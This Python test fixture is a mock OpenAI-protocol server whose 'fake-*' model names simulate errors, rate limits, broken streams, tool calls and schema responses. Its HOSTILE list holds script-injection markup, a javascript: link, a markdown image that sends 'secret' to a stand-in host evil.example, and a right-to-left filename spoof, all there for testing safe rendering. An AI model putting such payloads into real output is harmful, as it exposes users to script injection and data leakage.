"""A local server that speaks the OpenAI protocol, for tests and for trying the model path by hand.

`python -m tests.openai_server --port 9900`, then OPENAI_BASE_URL=http://127.0.0.1:9900/v1. What it
does is chosen by the model's name, see MODES.
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import hashlib
import json
import math
import random
import re
import ssl
import struct
import time
import zlib
from collections import deque
from collections.abc import AsyncIterator, Mapping
from dataclasses import dataclass, field
from email.utils import formatdate
from typing import Any

from aiohttp import web

from ai.concepts import concepts
from ai.words import STOP_WORDS, stem, words
from tests.threaded_server import ThreadedServer

HOSTILE = [
    "<script>alert(1)</script> ",
    '<img src=x onerror="alert(1)"> ',
    "[click](javascript:alert(1)) ",
    "![leak](https://evil.example/?q=secret) ",
    "[elsewhere](https://evil.example/) ",
    "\u202egnp.exe ",
    "**ok**",
]

MODES = {
    "fake": "quotes and cites the first source of the prompt, or says that it does not know",
    "fake-facts": "finds a fact in each line of the visitor, as memory asks for them",
    "fake-summary": "sums a dialogue up in three lines, as operators are told of it",
    "fake-slow": "the same, with a pause before each piece",
    "fake-gate": "stops after two pieces until the test calls `open_gate`",
    "fake-broken": "cuts the connection in the middle",
    "fake-error": "sends an error object in the middle",
    "fake-429": "is busy, with Retry-After",
    "fake-429-date": "is busy, with a date of this moment in Retry-After",
    "fake-429-long": "is busy for an hour",
    "fake-429-plain": "is busy, and does not say for how long",
    "fake-quota": "has no money left, and says so as OpenAI does",
    "fake-402": "has no money left, and says so as OpenRouter and DeepSeek do",
    "fake-odd": "answers with an object that is none of the protocol",
    "fake-500": "is out of order",
    "fake-503": "is out of order for a while",
    "fake-400": "takes no such request",
    "fake-401": "refuses the key",
    "fake-403": "refuses the country",
    "fake-408": "was waiting too long itself",
    "fake-404": "does not know itself",
    "fake-hang": "accepts and never answers",
    "fake-silent": "begins and never goes on",
    "fake-once": "is out of order the first time, and then answers",
    "fake-cut": "cuts the connection before it has begun",
    "fake-thinking": "says that it lives, and never a word",
    "fake-drip": "begins, and then only says that it lives",
    "fake-json": "sends what is no JSON",
    "fake-shape": "sends JSON of a shape that the protocol has not",
    "fake-lines": "sends lines that are none of an event stream",
    "fake-html": "answers with a web page",
    "fake-huge": "never comes to an end",
    "fake-line": "sends one line that has no end",
    "fake-uncounted": "answers, and does not count its tokens",
    "fake-cached": "answers, and had half of the prompt in its cache",
    "fake-empty": "answers with nothing",
    "fake-hostile": "answers with markup that must never run",
    "fake-old": "refuses stream_options, as older servers do",
    "fake-new": "refuses max_tokens, as newer models do",
    "fake-no-tools": "refuses tools, as some local models do",
    "fake-tools": "calls tools as `plays` say, then repeats what the last of them answered",
    "fake-plain": "refuses response_format, and puts its JSON between words",
    "fake-wrong-once": "its first JSON follows no schema; the second, when told so, does",
    "fake-wrong": "its JSON never follows the schema",
    "fake-schema": "answers what its schema wants: a passage's heading as the only entity",
    "fake-refusal": "declines where a schema is wanted",
    "fake-<ttft ms>-<tokens a second>-<tokens>": "a paced stream of numbered words",
}
# As OpenRouter lists them: of one token, in dollars.
PRICES: dict[str, Any] = {
    "fake": {"prompt": "0.0000025", "completion": "0.00001", "input_cache_read": "0.00000125"},
    "fake-slow": {"prompt": "0", "completion": "0"},
    "fake-old": {"prompt": "-1", "completion": "-1"},
    "fake-new": {"prompt": "a lot", "completion": None},
    "fake-empty": ["free"],
}
ODD_STREAMS = {
    "fake-json": b'data: {"choices": [{"delta": {"content": "By\n\n',
    "fake-shape": b'data: {"choices": ["By card."]}\n\ndata: [DONE]\n\n',
    "fake-lines": b"By card or in cash.\n\nAnd thank you.\n\n",
}
# Models that a provider ends before they have; the second before its first word.
ENDS = {"fake-short": "length", "fake-pensive": "length", "fake-filtered": "content_filter"}
_PACED = re.compile(r"^fake-(\d+)-(\d+)-(\d+)$")


@dataclass
class Play:
    """One answer of `fake-tools`: words, then uses of tools (name, arguments) in pieces of `size`.

    `style` is the provider's way: `index` (OpenAI's), `whole` (each use in one piece), `unnumbered`
    (every use has the index 0 and an id of its own), `nameless` (no id at all).
    """

    uses: list[tuple[str, str]] = field(default_factory=list)
    text: str = ""
    size: int = 3
    style: str = "index"

    def pieces(self) -> list[list[dict[str, Any]]]:
        """The chunks' `tool_calls`, of which several may come in one chunk."""
        chunks: list[list[dict[str, Any]]] = []
        for number, (name, arguments) in enumerate(self.uses):
            index = 0 if self.style == "unnumbered" else number
            identity = {} if self.style == "nameless" else {"id": f"call-{number}"}
            head = {"index": index, **identity, "type": "function"}
            if self.style in ("whole", "unnumbered"):
                chunks.append([{**head, "function": {"name": name, "arguments": arguments}}])
                continue
            chunks.append([{**head, "function": {"name": name, "arguments": ""}}])
            for at in range(0, len(arguments), self.size):
                part = arguments[at : at + self.size]
                chunks.append([{"index": index, "function": {"arguments": part}}])
        return chunks


class OpenAIServer(ThreadedServer):
    """The server; a `fake-gate` answer waits until the test opens the gate."""

    def __init__(self, port: int = 0, tls: ssl.SSLContext | None = None) -> None:
        super().__init__(port, tls)
        self.requests: list[dict[str, Any]] = []
        self.headers: list[Mapping[str, str]] = []
        # The only key that is taken; empty: any.
        self.key = ""
        # What `fake-tools` answers, one for each request.
        self.plays: deque[Play] = deque()
        self.disconnects = 0
        self.sent_pieces = 0
        # The clients' ends of the connections that brought requests.
        self.peers: set[Any] = set()

    @property
    def base_url(self) -> str:
        """What OPENAI_BASE_URL is set to."""
        return f"{'https' if self._tls else 'http'}://127.0.0.1:{self.port}/v1"

    def add_routes(self, application: web.Application) -> None:
        """The protocol's, and two that are none of it."""
        application.router.add_post("/v1/chat/completions", self._complete)
        application.router.add_post("/v1/embeddings", self._embed)
        application.router.add_get("/v1/models", self._models)
        application.router.add_route("*", "/page/{rest:.*}", self._page)
        application.router.add_route("*", "/elsewhere/{rest:.*}", self._elsewhere)

    async def _page(self, request: web.Request) -> web.Response:
        return web.Response(text="<!doctype html><title>A site</title>", content_type="text/html")

    async def _elsewhere(self, request: web.Request) -> web.Response:
        raise web.HTTPFound("/v1/models")

    def _wrong_key(self, request: web.Request) -> web.Response | None:
        self.headers.append(request.headers)
        if not self.key or request.headers.get("Authorization") == f"Bearer {self.key}":
            return None
        content = {"error": {"message": "Incorrect API key provided", "code": "invalid_api_key"}}
        return web.json_response(content, status=401)

    async def _models(self, request: web.Request) -> web.Response:
        if refusal := self._wrong_key(request):
            return refusal
        data: list[Any] = [{"id": name, "object": "model", "owned_by": "test"} for name in MODES]
        for row in data:
            row |= {"pricing": PRICES[row["id"]]} if row["id"] in PRICES else {}
        return web.json_response({"object": "list", "data": data})

    async def _complete(self, request: web.Request) -> web.StreamResponse:
        if refusal := self._wrong_key(request):
            return refusal
        body = await request.json()
        if request.transport is not None:
            self.peers.add(request.transport.get_extra_info("peername"))
        self.requests.append(body)
        mode = body["model"]
        refusal = _refusal(mode, body)
        if refusal:
            return refusal
        if mode == "fake-once" and [one["model"] for one in self.requests].count(mode) == 1:
            return _refused(500, "out of order")
        if mode == "fake-html":
            page = "<!doctype html><title>Sign in to the network</title>"
            return web.Response(text=page, content_type="text/html")
        if mode == "fake-odd":
            return web.json_response({"answer": "yes"})
        if mode == "fake-hang":
            await self._until_gone()
        if not body.get("stream"):
            return web.json_response(_whole(body, "".join(_words(body))))
        response = web.StreamResponse(headers={"Content-Type": "text/event-stream"})
        await response.prepare(request)
        try:
            return await self._stream(response, body)
        except (ConnectionResetError, asyncio.CancelledError):
            self.disconnects += 1
            raise

    async def _until_gone(self) -> None:
        try:
            await asyncio.Event().wait()
        finally:
            self.disconnects += 1

    async def _stream(
        self, response: web.StreamResponse, body: dict[str, Any]
    ) -> web.StreamResponse:
        mode, count = body["model"], 0

        async def send(delta: dict[str, Any], reason: str | None = None, **more: Any) -> None:
            choice = {"index": 0, "delta": delta, "finish_reason": reason}
            await response.write(_event(body, choices=[choice], **more))

        await response.write(b": keep-alive\r\n\r\n" if mode == "fake-hostile" else b"")
        if mode == "fake-cut":
            response._req.transport.close()  # type: ignore[union-attr]
            return response
        if mode in ODD_STREAMS:
            await response.write(ODD_STREAMS[mode])
            return response
        while mode == "fake-line":
            await response.write(b"data: " + b"a" * 64 * 1024)
        while mode == "fake-thinking":
            await response.write(b": processing\n\n")
            await asyncio.sleep(0.02)
        await send({"role": "assistant", "content": ""}, unknown_field={"a": [1]})
        if mode == "fake-tools" and self.plays:
            play = self.plays.popleft()
            for word in re.findall(r"\S+\s*", play.text):
                await send({"content": word})
            for calls in play.pieces():
                await send({"tool_calls": calls})
            await send({}, "tool_calls" if play.uses else "stop")
            if (body.get("stream_options") or {}).get("include_usage"):
                await response.write(_event(body, choices=[], usage=_usage(body, 1)))
            await response.write(b"data: [DONE]\n\n")
            await response.write_eof()
            return response
        if mode == "fake-refusal":
            await send({"refusal": "I cannot help with that."})
        async for piece in self._pieces(body):
            await send({"content": piece})
            count += 1
            self.sent_pieces += 1
            if mode == "fake-broken" and count == 3:
                response._req.transport.close()  # type: ignore[union-attr]
                return response
            if mode == "fake-error" and count == 3:
                # What has come with the error would be as if it was never said.
                await asyncio.sleep(0.05)
                await response.write(b'data: {"error": {"message": "overloaded"}}\n\n')
                return response
            while mode == "fake-drip":
                await response.write(b": processing\n\n")
                await asyncio.sleep(0.02)
            while mode == "fake-huge":
                await send({"content": "again and again "})
            if mode == "fake-silent" and count == 1:
                await asyncio.Event().wait()
            if mode == "fake-gate" and count == 2:
                await self.wait_at_gate()
        await send({}, ENDS.get(mode, "stop"))
        wants_usage = (body.get("stream_options") or {}).get("include_usage")
        if wants_usage and mode != "fake-uncounted":
            await response.write(_event(body, choices=[], usage=_usage(body, count)))
        await response.write(b"data: [DONE]\n\n")
        await response.write_eof()
        return response

    async def _pieces(self, body: dict[str, Any]) -> AsyncIterator[str]:
        paced = _PACED.match(body["model"])
        if paced:
            first, rate, count = map(int, paced.groups())
            started = time.monotonic() + first / 1000
            for number in range(count):
                await asyncio.sleep(max(0.0, started + number / rate - time.monotonic()))
                yield f"{number}~{time.time():.6f} "
            return
        for word in _words(body):
            if body["model"] == "fake-slow":
                await asyncio.sleep(0.05)
            yield word

    async def _embed(self, request: web.Request) -> web.Response:
        body = await request.json()
        self.requests.append(body)
        refusal = _refusal(body["model"], body)
        if refusal:
            return refusal
        texts = [body["input"]] if isinstance(body["input"], str) else body["input"]
        size = body.get("dimensions") or {"embed-768": 768, "embed-3072": 3072}.get(
            body["model"], 1024
        )
        data = []
        # In any order: the index counts.
        for index, text in reversed(list(enumerate(texts))):
            vector: Any = (
                meaning_of(text) if body["model"] == "embed-meaning" else vector_of(text, size)
            )
            if body.get("encoding_format") == "base64":
                vector = base64.b64encode(struct.pack(f"<{size}f", *vector)).decode()
            data.append({"object": "embedding", "index": index, "embedding": vector})
        usage = {"prompt_tokens": sum(map(len, texts)), "total_tokens": sum(map(len, texts))}
        return web.json_response(
            {"object": "list", "data": data, "model": body["model"], "usage": usage}
        )


def meaning_of(text: str) -> list[float]:
    """A stand-in for a sentence model: 384 numbers that depend on stems and meanings.

    No model is in it: like one it brings words of one meaning together and slips apart, and like
    many it gives any two texts a cosine well above nothing.
    """
    vector = [0.0] * 384
    for word in words(text):
        root = stem(word)
        meanings = concepts(root)
        scale = 0.35 if word in STOP_WORDS else 1.0
        features = [(f"s{root}", 1.0), *((f"m{one}", 1.4 / len(meanings)) for one in meanings)]
        for name, weight in features:
            place = zlib.crc32(name.encode())
            vector[place % 384] += scale * weight * (1 if place & 1 << 16 else -1)
    length = math.sqrt(sum(x * x for x in vector)) or 1.0
    return [x / length + 0.8 / math.sqrt(384) for x in vector]


def vector_of(text: str, size: int) -> list[float]:
    """Numbers that depend on the text alone."""
    source = random.Random(hashlib.sha256(text.encode()).digest())
    return [source.uniform(-1, 1) for _ in range(size)]


def _words(body: dict[str, Any]) -> list[str]:
    if body["model"] in ("fake-empty", "fake-pensive"):
        return []
    if body["model"] == "fake-hostile":
        return HOSTILE
    if asked_for := re.search(r"<schema>\n(.*)\n</schema>", system_of(body)):
        return re.findall(r"\S+\s*", _structured(body, json.loads(asked_for[1])))
    if body["model"] in ("fake-schema", "fake-plain"):
        return [_fitting(body["messages"][-1]["content"])]
    last = body["messages"][-1]
    if body["model"] == "fake-tools" and last["role"] == "tool":
        return re.findall(r"\S+\s*", str(last["content"]))
    if body["model"] == "fake-facts":
        said = re.findall(r"^(\d+) user: (.*)$", body["messages"][-1]["content"], re.MULTILINE)
        return [json.dumps([{"text": text, "message": int(seq)} for seq, text in said])]
    if body["model"] == "fake-summary":
        *_others, asked = re.findall(r"^user: (.*)$", body["messages"][-1]["content"], re.MULTILINE)
        return [f"WANTS: {asked}\n", "SAID: nothing else\n", "TRIED: nothing"]
    told = "\n".join(str(m["content"] or "") for m in body["messages"])
    source = re.search(r'<source number="1">\n.*\n([\s\S]*?)\n</source>', told)
    facts = re.search(r"<facts>\n([\s\S]*?)\n</facts>", told)
    asked = str(last["content"]).rpartition("<question>")[2]
    russian = bool(re.search("[а-яё]", asked, re.IGNORECASE))
    text = f"{source[1]} [1]" if source else f"{facts[1]} [1]" if facts else ""
    if not text:
        text = "Этого я не знаю." if russian else "I do not know that."
    return re.findall(r"\S+\s*", text)


def _fitting(asked: str) -> str:
    """The answer that `knowledge.graph.asking` wants."""
    passages = re.findall(r'<passage number="(\d+)">\n(.*)\n', asked)
    return json.dumps(
        {
            "passages": [
                {
                    "number": int(number),
                    "entities": [{"name": heading[:100], "kind": "event"}],
                    "relations": [],
                }
                for number, heading in passages
            ]
        }
    )


def _refused(status: int, message: str, **headers: str) -> web.Response:
    content = {"error": {"message": message, "type": "test", "code": None}}
    return web.json_response(content, status=status, headers=headers)


def _structured(body: dict[str, Any], schema: dict[str, Any]) -> str:
    """An answer to who asked for JSON by a schema."""
    mode, is_told = body["model"], body["messages"][-2]["role"] == "assistant"
    if mode == "fake-wrong" or (mode == "fake-wrong-once" and not is_told):
        return json.dumps({"surprise": True})
    example = example_of(schema, "It")
    # What no schema of a result allows.
    text = json.dumps({**example, "system_prompt": system_of(body)}, ensure_ascii=False)
    return f"Here it is:\n```json\n{text}\n```\nAnything else?" if mode == "fake-plain" else text


def system_of(body: dict[str, Any]) -> str:
    """The rules of a request."""
    return "\n".join(m["content"] for m in body["messages"] if m["role"] == "system")


def example_of(schema: dict[str, Any], name: str) -> Any:
    """Something that follows a schema."""
    kind = schema["type"]
    if kind == "object":
        return {key: example_of(part, key) for key, part in schema.get("properties", {}).items()}
    if kind == "array":
        count = max(schema.get("minItems", 0), 2)
        numbered = [f"{name} {number}" for number in range(1, count + 1)]
        return [example_of(schema["items"], one) for one in numbered]
    if kind == "string":
        return (schema.get("enum") or [name])[0][: schema.get("maxLength", 1000)]
    return True if kind == "boolean" else max(schema.get("minimum", 1), 1)


def _refusal(mode: str, body: dict[str, Any]) -> web.Response | None:
    refuse = _refused
    if mode == "fake-429":
        return refuse(429, "busy", **{"Retry-After": "2"})
    if mode == "fake-429-date":
        return refuse(429, "busy", **{"Retry-After": formatdate(usegmt=True)})
    if mode == "fake-429-long":
        return refuse(429, "busy", **{"Retry-After": "3600"})
    if mode == "fake-429-plain":
        return refuse(429, "busy")
    if mode == "fake-503":
        return refuse(503, "overloaded")
    if mode == "fake-400":
        return refuse(400, "messages: too many")
    if mode == "fake-403":
        return refuse(403, "Country, region, or territory not supported")
    if mode == "fake-408":
        return refuse(408, "timeout")
    if mode == "fake-quota":
        return refuse(429, "You exceeded your current quota, please check your plan and billing.")
    if mode == "fake-402":
        return refuse(402, "Insufficient Balance")
    if mode == "fake-500":
        return refuse(500, "out of order")
    if mode == "fake-401":
        return refuse(401, "wrong key")
    if mode == "fake-404":
        return refuse(404, "no such model")
    if mode == "fake-old" and "stream_options" in body:
        return refuse(400, "Unrecognized request argument supplied: stream_options")
    if mode == "fake-no-tools" and "tools" in body:
        return refuse(400, f"{mode} does not support tools")
    if mode == "fake-plain" and "response_format" in body:
        return refuse(400, "'response_format' of type 'json_schema' is not supported")
    if mode == "fake-new" and "max_tokens" in body:
        return refuse(400, "Unsupported parameter: 'max_tokens'. Use 'max_completion_tokens'.")
    if mode == "embed-own-size" and "dimensions" in body:
        return refuse(400, f"Model {mode} does not support matryoshka representation")
    if mode.startswith("embed-few") and len(body["input"]) > 32:
        return refuse(413, f"batch size {len(body['input'])} > maximum allowed batch size 32")
    return None


def _usage(body: dict[str, Any], completion: int) -> dict[str, Any]:
    prompt = sum(len(m["content"].split()) for m in body["messages"])
    cached = prompt // 2 if body["model"] == "fake-cached" else 0
    return {
        "prompt_tokens": prompt,
        "completion_tokens": completion,
        "total_tokens": prompt + completion,
        "prompt_tokens_details": {"cached_tokens": cached},
    }


def _event(body: dict[str, Any], **fields: Any) -> bytes:
    chunk = {
        "id": "chatcmpl-test",
        "object": "chat.completion.chunk",
        "created": 0,
        "model": body["model"],
        **fields,
    }
    return f"data: {json.dumps(chunk, ensure_ascii=False)}\n\n".encode()


def _whole(body: dict[str, Any], text: str) -> dict[str, Any]:
    return {
        "id": "chatcmpl-test",
        "object": "chat.completion",
        "created": 0,
        "model": body["model"],
        "choices": [
            {"index": 0, "message": {"role": "assistant", "content": text}, "finish_reason": "stop"}
        ],
        "usage": _usage(body, len(text.split())),
    }


def main() -> None:
    """The command line."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--port", type=int, default=9900)
    server = OpenAIServer(parser.parse_args().port)
    with server:
        server.join()


if __name__ == "__main__":
    main()
